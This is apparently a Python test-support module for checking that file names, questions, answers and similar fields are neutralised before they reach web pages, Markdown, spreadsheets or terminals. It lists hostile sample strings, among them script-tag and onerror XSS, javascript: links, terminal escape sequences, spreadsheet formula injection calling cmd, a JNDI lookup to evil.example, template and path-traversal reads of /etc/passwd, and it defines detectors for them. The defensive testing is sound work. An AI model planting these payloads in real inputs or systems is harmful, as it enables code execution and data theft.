r"""Texts that do harm where what is shown is not written out: to pages, tables, spreadsheets, terminals, pictures.

Names of files and of the hub, questions, answers and what hardware calls itself can be any of these. None of them may
open an element, set an attribute, be a link, part a row or a cell, move a cursor, run as a formula, or stop a run.
"""

import re
from collections import Counter
from html.parser import HTMLParser

from markdown_it import MarkdownIt

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)><a href="javascript:alert(1)">x</a>',
    "</style></title></textarea></details></table><script>alert(1)</script>",
    "<!-- <b>--> <![CDATA[ ]]> <!-- results:end -->",
    "javascript:alert(1) https://evil.example/?x www.evil.example <https://evil.example>",
    "[click](javascript:alert(1)) [ref]: https://evil.example [ref]",
    "![pixel](https://evil.example/pixel.png)",
    "a | b || c |\n| d | e |\n|---|---|",
    "`code` ``two`` ```\nfence\n``` ` |",
    "# head\n## head\n\n- item\n> quote\n\n---\n***\n\n    indented\n~~~\nfence",
    "one\r\ntwo\rthree\ttab\vfour\ffive",
    "nul\0byte\x08\x7f",
    "\x1b[31mred\x1b[2J\x1b]0;title\x07\x1b]52;c;ZXZpbA==\x07",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b2J\x9d0;title\x9c\x85next",
    "user\u202egnp.exe\u202c \u2066over\u2069 \u200fright",
    "zero\u200bwidth\u200d\u2060\ufeff\u00ad",
    "line\u2028separator\u2029paragraph",
    "=cmd|' /C calc'!A0",
    '\t=HYPERLINK("http://evil.example","x");@SUM(1+1)*cmd|\' /C calc\'!A0',
    "x\n=cmd|' /C calc'!A0\n+HYPERLINK(1)",
    "$\\frac{1}{2$ \\$x\\$ $$ $\\undefined{$ ${jndi:ldap://evil.example}",
    "{{7*7}} {% include '/etc/passwd' %} {# x #} ${run.models} %s %(x)s {0.__class__}",
    "../../../etc/passwd\\..\\C:\\con /dev/null ~root file:///etc/passwd",
    "   ",
    "👩‍🔬🏴\u200d☠️ مرحبا שלום नमस्ते ｆｕｌｌ ＝１ é\u0301\u0301\u0301",
    "long" * 2500 + " " + "a b " * 500,
)
SURROGATES = "lone \ud800 and \udcff"  # of a file's name that is no UTF-8, or of \ud800 in JSON; Parquet has none
EVERY = (*HOSTILE, SURROGATES)

OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
BARE_LINK = re.compile(r"(?:(?:https?|ftp)://|www\.)\w")
FORMULA = re.compile(r"\n*[=+\-@\t\r＝＋－＠]")


class _Elements(HTMLParser):
    """Every element with its attributes, every comment and declaration."""

    def __init__(self) -> None:
        super().__init__()
        self.found: Counter[str] = Counter()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found[f"<{tag} {sorted(attrs, key=str)}>"] += 1

    def handle_comment(self, data: str) -> None:
        self.found[f"<!--{data}"] += 1

    def unknown_decl(self, data: str) -> None:
        self.found[f"<![{data}"] += 1

    def handle_pi(self, data: str) -> None:
        self.found[f"<?{data}"] += 1


def elements(page: str) -> Counter[str]:
    """What a page of HTML consists of but its text: how often each element with just these attributes is there."""
    parser = _Elements()
    parser.feed(page)
    parser.close()
    return parser.found


def of_markdown(text: str) -> Counter[str]:
    """What a renderer of Markdown makes of a text, any HTML in it left as it is and bare addresses taken for links."""
    markdown = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).disable("text_join")
    tokens = [token for block in markdown.parse(text) for token in block.children or ()]
    found = elements(markdown.render(text))
    # As GitHub has it, of what is neither code nor escaped: https://github.github.com/gfm/#autolinks-extension-
    links = [token for token in tokens if token.type == "text" and BARE_LINK.search(token.content)]
    return found + Counter({"bare links": len(links)})


def harm(text: str) -> list[str]:
    """The characters of a text that a terminal would obey."""
    return OBEYED.findall(text)
